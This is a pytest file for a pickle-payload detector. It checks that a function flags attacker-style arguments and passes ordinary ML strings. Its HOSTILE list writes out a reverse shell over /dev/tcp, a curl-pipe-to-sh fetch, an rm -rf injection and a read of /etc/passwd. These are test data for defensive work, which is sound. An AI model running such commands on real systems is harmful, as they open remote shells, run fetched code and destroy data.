"""What an unknown function is called with: an attacker's text is told from what honest functions are called with."""

import pytest

from quarantine.analyzers.pickle.payload import payload_in

HOSTILE = [
    "touch /tmp/x", "curl http://a/b | sh", "import os; os.getpid()", "__import__('os')", "echo $(id)", "/bin/sh -c ls",
    "bash -i >& /dev/tcp/127.0.0.1/1 0>&1", "exec('x')", "whoami", "python3 -c 'x'", "x; rm -rf a", "cat /etc/passwd",
]  # fmt: skip
HONEST = [
    "layer1", "open", "import", "category", "the cat sat on the mat", "weight;bias", "a|b", "relu", "utf-8", "<f8",
    "euclidean", "cat", "id", "kill count", "l2", "x > 3", "evaluation", "__main__", "lambda", "mean; std",
    "time.sleep",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_commands_and_code_are_told(text):
    assert payload_in((1, [text]), "Launcher") is not None


@pytest.mark.parametrize("text", ["https://a/b", "/etc/cron.d/a", "../../a", "C:\\a", "\\\\host\\share\\a"])
def test_addresses_and_paths_are_told_for_functions_only(text):
    assert payload_in((text,), "fetch") is not None
    assert payload_in((text,), "Dataset") is None


@pytest.mark.parametrize("text", HONEST)
def test_plain_words_are_not(text):
    assert payload_in((text, {"a": text}), "rebuild") is None


def test_many_arguments_are_bounded():
    loop: list[object] = []
    loop.append(loop)
    assert payload_in((loop, ["a"] * 10_000), "rebuild") is None
